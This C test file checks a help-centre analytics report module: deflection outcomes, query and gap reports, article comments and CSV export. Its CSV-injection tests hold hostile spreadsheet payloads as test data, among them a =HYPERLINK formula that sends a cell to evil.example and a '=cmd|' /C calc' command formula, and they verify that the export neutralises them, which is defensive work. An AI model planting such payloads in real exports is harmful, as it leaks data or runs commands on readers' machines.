/* test_reports.c -- deflection outcomes, the four reports and CSV, on
 * scenarios with a 2-second window and controlled timestamps. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "eventlog.h"
#include "harness.h"
#include "reports.h"
#include "strbuf.h"

#define T0 1767225600.0 /* 2026-01-01T00:00:00Z, a Thursday */
#define DAY 86400.0
#define WINDOW 2.0

static struct eventlog_event mk(enum eventlog_kind kind, double ts,
                                const char *visit)
{
    struct eventlog_event e;

    memset(&e, 0, sizeof e);
    e.kind = kind;
    e.ts = ts;
    e.visit = visit;
    e.results = -1;
    e.latency_us = -1;
    e.helpful = -1;
    return e;
}

static void rec(struct harness *h, struct eventlog *el,
                const struct eventlog_event *e)
{
    int rc = eventlog_record(el, e);

    if (rc)
        fprintf(stderr, "record: %s\n", eventlog_errmsg(el));
    CHECK_INT_EQ(h, rc, 0);
}

static void search(struct harness *h, struct eventlog *el, double t,
                   const char *v, const char *q, int results)
{
    struct eventlog_event e = mk(EVENTLOG_KIND_SEARCH, t, v);

    e.query = q;
    e.results = results;
    e.latency_us = 900;
    rec(h, el, &e);
}

static void click(struct harness *h, struct eventlog *el, double t,
                  const char *v, const char *q, const char *article,
                  const char *section)
{
    struct eventlog_event e = mk(EVENTLOG_KIND_CLICK, t, v);

    e.query = q;
    e.article = article;
    e.section = section;
    e.rank = 1;
    rec(h, el, &e);
}

static void view(struct harness *h, struct eventlog *el, double t,
                 const char *v, const char *article, const char *section)
{
    struct eventlog_event e = mk(EVENTLOG_KIND_VIEW, t, v);

    e.article = article;
    e.section = section;
    rec(h, el, &e);
}

static void vote(struct harness *h, struct eventlog *el, double t,
                 const char *v, const char *article, int helpful)
{
    struct eventlog_event e = mk(EVENTLOG_KIND_VOTE, t, v);

    e.article = article;
    e.helpful = helpful;
    e.reason = helpful ? NULL : "did_not_answer";
    rec(h, el, &e);
}

static void simple(struct harness *h, struct eventlog *el,
                   enum eventlog_kind kind, double t, const char *v)
{
    struct eventlog_event e = mk(kind, t, v);

    rec(h, el, &e);
}

static void suggest(struct harness *h, struct eventlog *el, double t,
                    const char *v, const char *q, const char *article)
{
    struct eventlog_event e = mk(EVENTLOG_KIND_SUGGEST, t, v);
    const char *shown[1];

    shown[0] = article;
    e.query = q;
    e.articles = shown;
    e.narticles = 1;
    rec(h, el, &e);
}

static void deflect(struct harness *h, struct eventlog *el, double t,
                    const char *v, const char *article, const char *source)
{
    struct eventlog_event e = mk(EVENTLOG_KIND_DEFLECT, t, v);

    e.article = article;
    e.source = source;
    rec(h, el, &e);
}

static void file_case(struct harness *h, struct eventlog *el, double t,
                      const char *v, const char *subject)
{
    struct eventlog_case c;
    char id[EVENTLOG_CASE_ID_SIZE];
    int rc;

    memset(&c, 0, sizeof c);
    c.subject = subject;
    c.visit = v;
    c.created = t;
    rc = eventlog_case_create(el, &c, id, sizeof id);
    if (rc)
        fprintf(stderr, "case: %s\n", eventlog_errmsg(el));
    CHECK_INT_EQ(h, rc, 0);
}

static struct eventlog *open_mem(struct harness *h)
{
    struct eventlog *el = NULL;

    CHECK_INT_EQ(h, eventlog_open(":memory:", &el), STORE_OK);
    return el;
}

static json_t *get(const json_t *o, const char *key)
{
    return json_object_get(o, key);
}

static long long num(const json_t *o, const char *key)
{
    return json_integer_value(json_object_get(o, key));
}

static double real(const json_t *o, const char *key)
{
    return json_real_value(json_object_get(o, key));
}

/* The six deflection scenarios, one visit each. */
static void deflection_scenarios(struct harness *h, struct eventlog *el)
{
    /* search -> click -> deflect: confirmed. */
    search(h, el, T0, "v1", "Reset password", 3);
    click(h, el, T0 + 1, "v1", "reset password", "pw", "steps");
    deflect(h, el, T0 + 1.5, "v1", "pw", "article");
    /* case form -> suggestion shown -> no case: potential. */
    simple(h, el, EVENTLOG_KIND_CASE_FORM, T0 + 10, "v2");
    suggest(h, el, T0 + 10.5, "v2", "printer jam", "printer");
    /* search -> case: none. */
    search(h, el, T0 + 20, "v3", "refund", 0);
    file_case(h, el, T0 + 21, "v3", "Refund not received");
    /* deflect, then a case inside the window: downgraded to none. */
    simple(h, el, EVENTLOG_KIND_CASE_FORM, T0 + 29, "v4");
    deflect(h, el, T0 + 30, "v4", NULL, "case_form");
    file_case(h, el, T0 + 30.5, "v4", "Still broken");
    /* a helpful vote: confirmed. */
    search(h, el, T0 + 40, "v5", "VPN  setup ", 2);
    view(h, el, T0 + 40.5, "v5", "vpn", NULL);
    vote(h, el, T0 + 41, "v5", "vpn", 1);
    /* deflect, then a case after the window: still confirmed. */
    simple(h, el, EVENTLOG_KIND_CASE_FORM, T0 + 50, "v6");
    deflect(h, el, T0 + 50.5, "v6", NULL, "case_form");
    file_case(h, el, T0 + 53, "v6", "Came back later");
    /* only read an article from a web search: not counted. */
    view(h, el, T0 + 60, "v7", "vpn", NULL);
}

static void test_deflection(struct harness *h)
{
    struct eventlog *el = open_mem(h);
    json_t *r = NULL, *t, *iv;

    deflection_scenarios(h, el);
    CHECK_INT_EQ(h, reports_deflection(el, T0 - DAY, T0 + 2 * DAY,
                                       REPORTS_DAY, WINDOW, T0 + 100, &r), 0);
    CHECK_STR_EQ(h, json_string_value(get(r, "from")), "2025-12-31");
    CHECK_STR_EQ(h, json_string_value(get(r, "to")), "2026-01-02");
    t = get(r, "total");
    CHECK_INT_EQ(h, num(t, "visits"), 7);
    CHECK_INT_EQ(h, num(t, "searches"), 3);
    CHECK_INT_EQ(h, num(t, "case_form_visits"), 3);
    CHECK_INT_EQ(h, num(t, "confirmed"), 3);
    CHECK_INT_EQ(h, num(t, "potential"), 1);
    CHECK_INT_EQ(h, num(t, "none"), 2);
    CHECK_INT_EQ(h, num(t, "pending"), 0);
    CHECK(h, real(t, "deflection_rate") == 0.6667);
    /* v1, v3, v5 searched, v7 read; v3, v4, v6 filed cases. */
    CHECK(h, real(t, "self_service_score") == 1.3333);
    iv = get(r, "intervals");
    CHECK_INT_EQ(h, json_array_size(iv), 3);
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(iv, 0), "start")),
                 "2025-12-31");
    CHECK_INT_EQ(h, num(json_array_get(iv, 0), "visits"), 0);
    CHECK(h, real(json_array_get(iv, 0), "deflection_rate") == 0.0);
    CHECK(h, real(json_array_get(iv, 0), "self_service_score") == 0.0);
    CHECK_INT_EQ(h, num(json_array_get(iv, 1), "confirmed"), 3);
    CHECK_INT_EQ(h, num(json_array_get(iv, 2), "visits"), 0);
    json_decref(r);

    /* Weeks start on Monday: 2025-12-29 and 2026-01-05. */
    CHECK_INT_EQ(h, reports_deflection(el, T0, T0 + 7 * DAY, REPORTS_WEEK,
                                       WINDOW, T0 + 100, &r), 0);
    iv = get(r, "intervals");
    CHECK_INT_EQ(h, json_array_size(iv), 2);
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(iv, 0), "start")),
                 "2025-12-29");
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(iv, 1), "start")),
                 "2026-01-05");
    CHECK_INT_EQ(h, num(json_array_get(iv, 0), "visits"), 7);
    json_decref(r);

    CHECK_INT_EQ(h, reports_deflection(el, T0, T0, REPORTS_DAY, WINDOW,
                                       T0, &r), STORE_ERR_INVALID);
    CHECK_CONTAINS(h, eventlog_errmsg(el), "from must be before to");
    CHECK(h, r == NULL);
    CHECK_INT_EQ(h, reports_deflection(el, T0, T0 + DAY, REPORTS_DAY, 0, T0,
                                       &r), STORE_ERR_INVALID);
    CHECK_CONTAINS(h, eventlog_errmsg(el), "window must be");
    CHECK_INT_EQ(h, reports_deflection(el, 0, 1e11, REPORTS_DAY, WINDOW, T0,
                                       &r), STORE_ERR_INVALID);
    CHECK_CONTAINS(h, eventlog_errmsg(el), "intervals");
    eventlog_close(el);
}

/* Counts for the visits starting in [from, from + 1) at now. */
static void outcome_at(struct harness *h, struct eventlog *el, double from,
                       double now, long long confirmed, long long potential,
                       long long none, long long pending)
{
    json_t *r = NULL, *t;

    CHECK_INT_EQ(h, reports_deflection(el, from, from + 1, REPORTS_DAY,
                                       WINDOW, now, &r), 0);
    t = get(r, "total");
    CHECK_INT_EQ(h, num(t, "confirmed"), confirmed);
    CHECK_INT_EQ(h, num(t, "potential"), potential);
    CHECK_INT_EQ(h, num(t, "none"), none);
    CHECK_INT_EQ(h, num(t, "pending"), pending);
    json_decref(r);
}

static void test_window(struct harness *h)
{
    struct eventlog *el = open_mem(h);

    deflection_scenarios(h, el);
    /* v2 (first event T0 + 10): nothing counted until T0 + 12. */
    outcome_at(h, el, T0 + 10, T0 + 10.5, 0, 0, 0, 1);
    outcome_at(h, el, T0 + 10, T0 + 11.999, 0, 0, 0, 1);
    outcome_at(h, el, T0 + 10, T0 + 12, 0, 1, 0, 0);
    /* v1 is withheld as well while its window is open. */
    outcome_at(h, el, T0, T0 + 1.6, 0, 0, 0, 1);
    outcome_at(h, el, T0, T0 + 2, 1, 0, 0, 0);
    /* v3 filed its case: none at once, no need to wait. */
    outcome_at(h, el, T0 + 20, T0 + 21, 0, 0, 1, 0);
    /* v4 deflected at +1 s; its case at +1.5 s makes it none. */
    outcome_at(h, el, T0 + 29, T0 + 30.6, 0, 0, 1, 0);
    /* v6: the case at +3 s is outside the 2 s window. */
    outcome_at(h, el, T0 + 50, T0 + 100, 1, 0, 0, 0);
    eventlog_close(el);
}

static const json_t *find_row(const json_t *rows, const char *key,
                              const char *value)
{
    size_t i;
    const json_t *row;

    json_array_foreach(rows, i, row) {
        const char *s = json_string_value(json_object_get(row, key));

        if (s && strcmp(s, value) == 0)
            return row;
    }
    return NULL;
}

static void query_scenarios(struct harness *h, struct eventlog *el)
{
    deflection_scenarios(h, el);
    search(h, el, T0 + 100, "q1", "RESET   Password", 5);
    search(h, el, T0 + 110, "q2", "\xD0\xA1\xD0\x91\xD0\xA0\xD0\x9E\xD0\xA1 "
                                  "\xD0\x9F\xD0\x90\xD0\xA0\xD0\x9E\xD0\x9B"
                                  "\xD0\xAF", 0); /* СБРОС ПАРОЛЯ */
    search(h, el, T0 + 120, "q3", "  \xD1\x81\xD0\xB1\xD1\x80\xD0\xBE\xD1\x81"
                                  "\t\xD0\xBF\xD0\xB0\xD1\x80\xD0\xBE\xD0\xBB"
                                  "\xD1\x8F", 0); /* сброс\tпароля */
    /* Two searches, one click: the click credits only the latest. */
    search(h, el, T0 + 130, "q4", "printer", 4);
    search(h, el, T0 + 130.2, "q4", "Printer", 4);
    click(h, el, T0 + 130.4, "q4", "printer ", "printer", NULL);
    /* A click for another query credits nothing here. */
    search(h, el, T0 + 140, "q5", "printer", 4);
    click(h, el, T0 + 140.5, "q5", "toner", "toner", NULL);
}

static void test_queries(struct harness *h)
{
    struct eventlog *el = open_mem(h);
    const json_t *row, *rows;
    json_t *r = NULL;
    char *s;

    query_scenarios(h, el);
    CHECK_INT_EQ(h, reports_queries(el, T0, T0 + DAY, WINDOW, T0 + 1000, 0,
                                    &r), 0);
    rows = get(r, "queries");
    CHECK_INT_EQ(h, json_array_size(rows), 5);
    /* Most searched first; ties by query. */
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(rows, 0), "query")),
                 "printer");
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(rows, 1), "query")),
                 "reset password");
    row = find_row(rows, "query", "printer");
    CHECK_INT_EQ(h, num(row, "count"), 3);
    CHECK(h, real(row, "ctr") == 0.3333);
    CHECK_INT_EQ(h, num(row, "results"), 4);
    row = find_row(rows, "query", "reset password");
    CHECK_INT_EQ(h, num(row, "count"), 2);
    CHECK_INT_EQ(h, num(row, "results"), 5); /* the latest search */
    CHECK(h, real(row, "ctr") == 0.5);
    CHECK_INT_EQ(h, num(row, "confirmed"), 1);
    CHECK_INT_EQ(h, num(row, "potential"), 1);
    CHECK_INT_EQ(h, num(row, "none"), 0);
    row = find_row(rows, "query", "\xD1\x81\xD0\xB1\xD1\x80\xD0\xBE\xD1\x81 "
                                  "\xD0\xBF\xD0\xB0\xD1\x80\xD0\xBE\xD0\xBB"
                                  "\xD1\x8F");
    CHECK(h, row != NULL);
    CHECK_INT_EQ(h, num(row, "count"), 2);
    CHECK(h, real(row, "ctr") == 0.0);
    row = find_row(rows, "query", "refund");
    CHECK_INT_EQ(h, num(row, "none"), 1);
    CHECK(h, find_row(rows, "query", "vpn setup") != NULL);
    json_decref(r);

    CHECK_INT_EQ(h, reports_queries(el, T0, T0 + DAY, WINDOW, T0 + 1000, 2,
                                    &r), 0);
    CHECK_INT_EQ(h, json_array_size(get(r, "queries")), 2);
    json_decref(r);

    s = reports_normalize_query(" \xC3\x84pfel\xC2\xA0und \xCE\xA3\xCE\x9F "
                                "\xC4\x8C\xC3\x89 \xD0\x81\xD0\x96 ");
    CHECK_STR_EQ(h, s, "\xC3\xA4pfel und \xCF\x83\xCE\xBF \xC4\x8D\xC3\xA9 "
                       "\xD1\x91\xD0\xB6");
    free(s);
    s = reports_normalize_query("\xFF" "A");
    CHECK_STR_EQ(h, s, "\xEF\xBF\xBD" "a");
    free(s);
    s = reports_normalize_query(" \t\n ");
    CHECK_STR_EQ(h, s, "");
    free(s);
    eventlog_close(el);
}

static void test_gaps(struct harness *h)
{
    struct eventlog *el = open_mem(h);
    const json_t *row, *rows;
    json_t *r = NULL;

    query_scenarios(h, el);
    search(h, el, T0 + 200, "g1", "Refund", 0);
    file_case(h, el, T0 + 205, "g1", "Refund, please");
    file_case(h, el, T0 + 206, "g1", "Refund not received"); /* dup */
    CHECK_INT_EQ(h, reports_gaps(el, T0, T0 + DAY, 0, &r), 0);
    rows = get(r, "gaps");
    row = find_row(rows, "query", "refund");
    CHECK(h, row != NULL);
    CHECK_INT_EQ(h, num(row, "count"), 2);
    CHECK_INT_EQ(h, num(row, "zero_results"), 2);
    CHECK_INT_EQ(h, num(row, "no_click"), 0);
    CHECK_INT_EQ(h, json_array_size(get(row, "cases")), 2);
    CHECK_STR_EQ(h, json_string_value(json_array_get(get(row, "cases"), 0)),
                 "Refund not received");
    CHECK_STR_EQ(h, json_string_value(json_array_get(get(row, "cases"), 1)),
                 "Refund, please");
    /* printer: q4's first search and q5's went unclicked. */
    row = find_row(rows, "query", "printer");
    CHECK_INT_EQ(h, num(row, "no_click"), 2);
    CHECK_INT_EQ(h, json_array_size(get(row, "cases")), 0);
    /* reset password: q1 got results and left without a click. */
    row = find_row(rows, "query", "reset password");
    CHECK_INT_EQ(h, num(row, "no_click"), 1);
    /* vpn setup was answered (a view is not a click, so it is a gap
     * too: results and no click). */
    row = find_row(rows, "query", "vpn setup");
    CHECK_INT_EQ(h, num(row, "no_click"), 1);
    /* Ordered by zero_results + no_click. */
    CHECK(h, num(json_array_get(rows, 0), "zero_results") +
                     num(json_array_get(rows, 0), "no_click") >=
                 num(json_array_get(rows, 1), "zero_results") +
                     num(json_array_get(rows, 1), "no_click"));
    json_decref(r);
    CHECK_INT_EQ(h, reports_gaps(el, T0, T0 + DAY, 1, &r), 0);
    CHECK_INT_EQ(h, json_array_size(get(r, "gaps")), 1);
    json_decref(r);
    eventlog_close(el);
}

static const json_t *find_article(const json_t *rows, const char *article,
                                  const char *section)
{
    size_t i;
    const json_t *row;

    json_array_foreach(rows, i, row) {
        if (strcmp(json_string_value(get(row, "article")), article) == 0 &&
            strcmp(json_string_value(get(row, "section")), section) == 0)
            return row;
    }
    return NULL;
}

static void test_articles(struct harness *h)
{
    struct eventlog *el = open_mem(h);
    const json_t *row, *rows;
    json_t *r = NULL;

    deflection_scenarios(h, el);
    /* a visit that reads pw and leaves: potential for pw/"" */
    search(h, el, T0 + 300, "a1", "password", 1);
    view(h, el, T0 + 301, "a1", "pw", "");
    vote(h, el, T0 + 301.5, "a1", "pw", 0);
    view(h, el, T0 + 302.5, "a1", "pw", "steps"); /* after its window */
    CHECK_INT_EQ(h, reports_articles(el, T0, T0 + DAY, WINDOW, T0 + 1000, &r),
                 0);
    rows = get(r, "articles");
    row = find_article(rows, "pw", "steps");
    CHECK(h, row != NULL);
    CHECK_INT_EQ(h, num(row, "clicks"), 1);
    CHECK_INT_EQ(h, num(row, "views"), 1);
    CHECK_INT_EQ(h, num(row, "confirmed"), 1); /* v1 clicked it */
    CHECK_INT_EQ(h, num(row, "potential"), 0); /* a1 read it too late */
    row = find_article(rows, "pw", "");
    CHECK_INT_EQ(h, num(row, "views"), 1);
    CHECK_INT_EQ(h, num(row, "helpful_no"), 1);
    CHECK_INT_EQ(h, num(row, "confirmed"), 1); /* v1 deflected from it */
    CHECK_INT_EQ(h, num(row, "potential"), 1); /* a1 */
    row = find_article(rows, "vpn", "");
    CHECK_INT_EQ(h, num(row, "views"), 2);
    CHECK_INT_EQ(h, num(row, "helpful_yes"), 1);
    CHECK_INT_EQ(h, num(row, "confirmed"), 1); /* v5; v7 is not counted */
    CHECK(h, find_article(rows, "printer", "") == NULL); /* only suggested */
    /* Most read first. */
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(rows, 0), "article")),
                 "pw");
    json_decref(r);
    eventlog_close(el);
}

static void comment_vote(struct harness *h, struct eventlog *el, double t, const char *v,
                         const char *article, const char *section, int helpful,
                         const char *comment)
{
    struct eventlog_event e = mk(EVENTLOG_KIND_VOTE, t, v);

    e.article = article;
    e.section = section;
    e.helpful = helpful;
    e.reason = helpful ? NULL : "other";
    e.comment = comment;
    e.locale = "en-us";
    rec(h, el, &e);
}

/* Votes cast from a section link count for the section and the
 * article; comments come newest first, at most
 * REPORTS_ARTICLE_COMMENTS, with the total, as stored (escaping is the
 * output's), and in the CSV one per line, formula-safe. */
static void test_article_comments(struct harness *h)
{
    struct eventlog *el = open_mem(h);
    const json_t *row, *rows, *list;
    json_t *r = NULL;
    char *csv = NULL;
    char v[32], text[64];
    int i;

    comment_vote(h, el, T0 + 1, "s1", "pw", "steps", 0, "<b>Step 3</b> is wrong");
    comment_vote(h, el, T0 + 2, "s2", "pw", "", 1, NULL);
    comment_vote(h, el, T0 + 3, "s3", "pw", "", 0, "=HYPERLINK(\"x\")");
    /* Seven more comments on another article, visits in reverse time
     * order: the scan sees the oldest last. */
    for (i = 0; i < 7; i++) {
        snprintf(v, sizeof v, "m%d", i);
        snprintf(text, sizeof text, "comment %d", 7 - i);
        comment_vote(h, el, T0 + 100 - i, v, "vpn", "", 0, text);
    }
    CHECK_INT_EQ(h, reports_articles(el, T0, T0 + DAY, WINDOW, T0 + 1000, &r), 0);
    rows = get(r, "articles");
    row = find_article(rows, "pw", "steps");
    CHECK(h, row != NULL);
    CHECK_INT_EQ(h, num(row, "helpful_no"), 1);
    CHECK_INT_EQ(h, num(row, "helpful_yes"), 0);
    CHECK_INT_EQ(h, num(row, "comments_total"), 1);
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(get(row, "comments"), 0), "comment")),
                 "<b>Step 3</b> is wrong");
    row = find_article(rows, "pw", "");
    CHECK(h, row != NULL);
    CHECK_INT_EQ(h, num(row, "helpful_no"), 2); /* the section's vote too */
    CHECK_INT_EQ(h, num(row, "helpful_yes"), 1);
    CHECK_INT_EQ(h, num(row, "comments_total"), 2);
    list = get(row, "comments");
    CHECK_INT_EQ(h, json_array_size(list), 2);
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(list, 0), "comment")),
                 "=HYPERLINK(\"x\")");
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(list, 1), "section")), "steps");
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(list, 1), "reason")), "other");
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(list, 1), "locale")), "en-us");
    CHECK(h, json_is_false(get(json_array_get(list, 1), "helpful")));
    CHECK_STR_EQ(h, json_string_value(get(json_array_get(list, 1), "created")),
                 "2026-01-01T00:00:01.000Z");
    row = find_article(rows, "vpn", "");
    CHECK_INT_EQ(h, num(row, "comments_total"), 7);
    list = get(row, "comments");
    CHECK_INT_EQ(h, json_array_size(list), REPORTS_ARTICLE_COMMENTS);
    for (i = 0; i < (int)json_array_size(list); i++) {
        snprintf(text, sizeof text, "comment %d", 7 - i);
        CHECK_STR_EQ(h, json_string_value(get(json_array_get(list, (size_t)i), "comment")),
                     text);
    }
    CHECK_INT_EQ(h, reports_to_csv(r, "articles", &csv), 0);
    CHECK_CONTAINS(h, csv, ",2,\"'=HYPERLINK(\"\"x\"\")\n<b>Step 3</b> is wrong\"\r\n");
    CHECK_CONTAINS(h, csv, ",7,\"comment 7\ncomment 6\ncomment 5\ncomment 4\ncomment 3\"\r\n");
    free(csv);
    json_decref(r);
    eventlog_close(el);
}

static void test_csv(struct harness *h)
{
    struct eventlog *el = open_mem(h);
    json_t *r = NULL, *fake;
    char *csv = NULL;

    /* A query with a comma and a quote, through the real report. */
    search(h, el, T0, "c1", "say \"hi\", then", 0);
    file_case(h, el, T0 + 1, "c1", "Help; now, \"please\"");
    CHECK_INT_EQ(h, reports_queries(el, T0, T0 + DAY, WINDOW, T0 + 100, 0,
                                    &r), 0);
    CHECK_INT_EQ(h, reports_to_csv(r, "queries", &csv), 0);
    CHECK_STR_EQ(h, csv, "query,count,results,ctr,confirmed,potential,none\r\n"
                         "\"say \"\"hi\"\", then\",1,0,0,0,0,1\r\n");
    free(csv);
    json_decref(r);
    CHECK_INT_EQ(h, reports_gaps(el, T0, T0 + DAY, 0, &r), 0);
    CHECK_INT_EQ(h, reports_to_csv(r, "gaps", &csv), 0);
    CHECK_STR_EQ(h, csv, "query,count,zero_results,no_click,cases\r\n"
                         "\"say \"\"hi\"\", then\",1,1,0,"
                         "\"Help; now, \"\"please\"\"\"\r\n");
    free(csv);
    json_decref(r);

    /* Normalisation folds newlines, so test CR/LF on a built report. */
    fake = json_pack("{s:[{s:s, s:i, s:n, s:f, s:i, s:i, s:i}]}", "queries",
                     "query", "a,\"b\"\r\nc", "count", 2, "results", "ctr",
                     0.25, "confirmed", 1, "potential", 0, "none", 0);
    CHECK_INT_EQ(h, reports_to_csv(fake, "queries", &csv), 0);
    CHECK_STR_EQ(h, csv, "query,count,results,ctr,confirmed,potential,none\r\n"
                         "\"a,\"\"b\"\"\r\nc\",2,,0.25,1,0,0\r\n");
    free(csv);
    CHECK_INT_EQ(h, reports_to_csv(fake, "gaps", &csv), STORE_ERR_INVALID);
    CHECK_INT_EQ(h, reports_to_csv(fake, "nonsense", &csv), STORE_ERR_INVALID);
    CHECK(h, csv == NULL);
    json_decref(fake);

    CHECK_INT_EQ(h, reports_deflection(el, T0, T0 + 2 * DAY, REPORTS_DAY,
                                       WINDOW, T0 + 100, &r), 0);
    CHECK_INT_EQ(h, reports_to_csv(r, "deflection", &csv), 0);
    CHECK_STR_EQ(h, csv, "interval,visits,searches,case_form_visits,"
                         "confirmed,potential,none,pending,deflection_rate,"
                         "self_service_score\r\n"
                         "2026-01-01,1,1,0,0,0,1,0,0,1\r\n"
                         "2026-01-02,0,0,0,0,0,0,0,0,0\r\n"
                         "total,1,1,0,0,0,1,0,0,1\r\n");
    free(csv);
    json_decref(r);

    CHECK_INT_EQ(h, reports_articles(el, T0, T0 + DAY, WINDOW, T0 + 100, &r),
                 0);
    CHECK_INT_EQ(h, reports_to_csv(r, "articles", &csv), 0);
    CHECK_STR_EQ(h, csv, "article,section,views,clicks,helpful_yes,"
                         "helpful_no,confirmed,potential,comments_total,"
                         "comments\r\n");
    free(csv);
    json_decref(r);
    eventlog_close(el);
}

/* One cell through the cell writer; returns it (caller frees). */
static char *cell(const char *s, size_t n, enum reports_csv_kind kind)
{
    struct strbuf sb = STRBUF_INIT;

    strbuf_adds(&sb, "");
    reports_csv_cell(&sb, s, n, kind);
    return strbuf_detach(&sb, NULL);
}

/* CSV injection: a text cell that a spreadsheet would run as a formula
 * is prefixed with ', for every dangerous first character; numbers the
 * report formats stay numbers; RFC 4180 quoting still applies. */
static void test_csv_cell(struct harness *h)
{
    static const struct {
        const char *in, *want;
    } text[] = {
        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
         "\"\"click\"\")\""},
        {"=1+2", "'=1+2"},
        {"+1+2", "'+1+2"},
        {"-1+2", "'-1+2"},
        {"-", "'-"},
        {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
        {"\tcmd", "'\tcmd"},
        {"\r=1", "\"'\r=1\""},
        {"\r\n", "\"'\r\n\""},
        {"=a,b", "\"'=a,b\""},
        {"+\"q\"", "\"'+\"\"q\"\"\""},
        /* Not dangerous at the start: as they were. */
        {"late fee", "late fee"},
        {"a=1", "a=1"},
        {" =1", " =1"},
        {"'=1", "'=1"},
        {"1-2", "1-2"},
        {"\n=1", "\"\n=1\""},
        {"a,b", "\"a,b\""},
        {"", ""},
    };
    static const struct {
        const char *in, *want;
    } number[] = {
        {"-3", "-3"}, {"-0.25", "-0.25"}, {"+1", "+1"}, {"12", "12"},
        {"0.5", "0.5"}, {"-1e+20", "-1e+20"},
    };
    size_t i;
    char *got;

    for (i = 0; i < sizeof text / sizeof text[0]; i++) {
        got = cell(text[i].in, strlen(text[i].in), REPORTS_CSV_TEXT);
        CHECK_STR_EQ(h, got, text[i].want);
        free(got);
    }
    for (i = 0; i < sizeof number / sizeof number[0]; i++) {
        got = cell(number[i].in, strlen(number[i].in), REPORTS_CSV_NUMBER);
        CHECK_STR_EQ(h, got, number[i].want);
        free(got);
    }
    /* The length is what counts, not a NUL. */
    got = cell("=x\0y", 4, REPORTS_CSV_TEXT);
    CHECK(h, got && memcmp(got, "'=x\0y", 5) == 0);
    free(got);
    got = cell("=x", 0, REPORTS_CSV_TEXT);
    CHECK_STR_EQ(h, got, "");
    free(got);
}

/* Whole reports: text cells neutralised, numbers (negative ones too)
 * left as numbers, each dangerous case subject in a "cases" list
 * prefixed. */
static void test_csv_injection(struct harness *h)
{
    struct eventlog *el = open_mem(h);
    json_t *r = NULL, *fake;
    char *csv = NULL;

    search(h, el, T0, "i1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,"
                            "\"click\")", 0);
    file_case(h, el, T0 + 1, "i1", "=cmd|' /C calc'!A0");
    file_case(h, el, T0 + 1.5, "i1", "Invoice, please");
    search(h, el, T0 + 10, "i2", "@zz", 0);
    file_case(h, el, T0 + 11, "i2", "Locked out");
    file_case(h, el, T0 + 11.5, "i2", "+1 555");
    file_case(h, el, T0 + 11.6, "i2", "-2");
    CHECK_INT_EQ(h, reports_queries(el, T0, T0 + DAY, WINDOW, T0 + 100, 0,
                                    &r), 0);
    CHECK_INT_EQ(h, reports_to_csv(r, "queries", &csv), 0);
    CHECK_STR_EQ(h, csv, "query,count,results,ctr,confirmed,potential,none\r\n"
                         "\"'=hyperlink(\"\"http://evil.example/?x=\"\"&a1,"
                         "\"\"click\"\")\",1,0,0,0,0,1\r\n"
                         "'@zz,1,0,0,0,0,1\r\n");
    free(csv);
    json_decref(r);
    CHECK_INT_EQ(h, reports_gaps(el, T0, T0 + DAY, 0, &r), 0);
    CHECK_INT_EQ(h, reports_to_csv(r, "gaps", &csv), 0);
    CHECK_STR_EQ(h, csv, "query,count,zero_results,no_click,cases\r\n"
                         "\"'=hyperlink(\"\"http://evil.example/?x=\"\"&a1,"
                         "\"\"click\"\")\",1,1,0,"
                         "\"'=cmd|' /C calc'!A0; Invoice, please\"\r\n"
                         "'@zz,1,1,0,Locked out; '+1 555; '-2\r\n");
    free(csv);
    json_decref(r);
    eventlog_close(el);

    /* Numbers stay numbers, negative ones too; strings that look like
     * numbers are text. */
    fake = json_pack("{s:[{s:s, s:i, s:i, s:f, s:i, s:i, s:i}]}", "queries",
                     "query", "-1", "count", -3, "results", 0, "ctr", -0.5,
                     "confirmed", 1, "potential", 0, "none", 0);
    CHECK_INT_EQ(h, reports_to_csv(fake, "queries", &csv), 0);
    CHECK_STR_EQ(h, csv, "query,count,results,ctr,confirmed,potential,none\r\n"
                         "'-1,-3,0,-0.5,1,0,0\r\n");
    free(csv);
    json_decref(fake);
    fake = json_pack("{s:[{s:s, s:s, s:i, s:i, s:i, s:i, s:i, s:i}]}",
                     "articles", "article", "@evil", "section", "\tx",
                     "views", 1, "clicks", 0, "helpful_yes", 0,
                     "helpful_no", 0, "confirmed", 0, "potential", 0);
    CHECK_INT_EQ(h, reports_to_csv(fake, "articles", &csv), 0);
    CHECK_STR_EQ(h, csv, "article,section,views,clicks,helpful_yes,"
                         "helpful_no,confirmed,potential,comments_total,"
                         "comments\r\n"
                         "'@evil,'\tx,1,0,0,0,0,0,,\r\n");
    free(csv);
    json_decref(fake);
}

static void test_dates(struct harness *h)
{
    double ts = -1;
    char buf[16];

    CHECK_INT_EQ(h, reports_parse_date("2026-01-01", &ts), 0);
    CHECK(h, ts == T0);
    CHECK_INT_EQ(h, reports_parse_date("2024-02-29", &ts), 0);
    CHECK_INT_EQ(h, reports_parse_date("2026-02-29", &ts), STORE_ERR_INVALID);
    CHECK_INT_EQ(h, reports_parse_date("2026-13-01", &ts), STORE_ERR_INVALID);
    CHECK_INT_EQ(h, reports_parse_date("2026-1-01", &ts), STORE_ERR_INVALID);
    CHECK_INT_EQ(h, reports_parse_date("2026-01-01x", &ts), STORE_ERR_INVALID);
    CHECK_INT_EQ(h, reports_parse_date("1969-12-31", &ts), STORE_ERR_INVALID);
    CHECK_INT_EQ(h, reports_parse_date("", &ts), STORE_ERR_INVALID);
    CHECK_INT_EQ(h, reports_parse_date(NULL, &ts), STORE_ERR_INVALID);
    reports_format_date(T0 + DAY - 0.001, buf, sizeof buf);
    CHECK_STR_EQ(h, buf, "2026-01-01");
}

int main(void)
{
    struct harness h = {0, 0};

    test_deflection(&h);
    test_window(&h);
    test_queries(&h);
    test_gaps(&h);
    test_articles(&h);
    test_article_comments(&h);
    test_csv(&h);
    test_csv_cell(&h);
    test_csv_injection(&h);
    test_dates(&h);
    TEST_MAIN_END(&h);
}
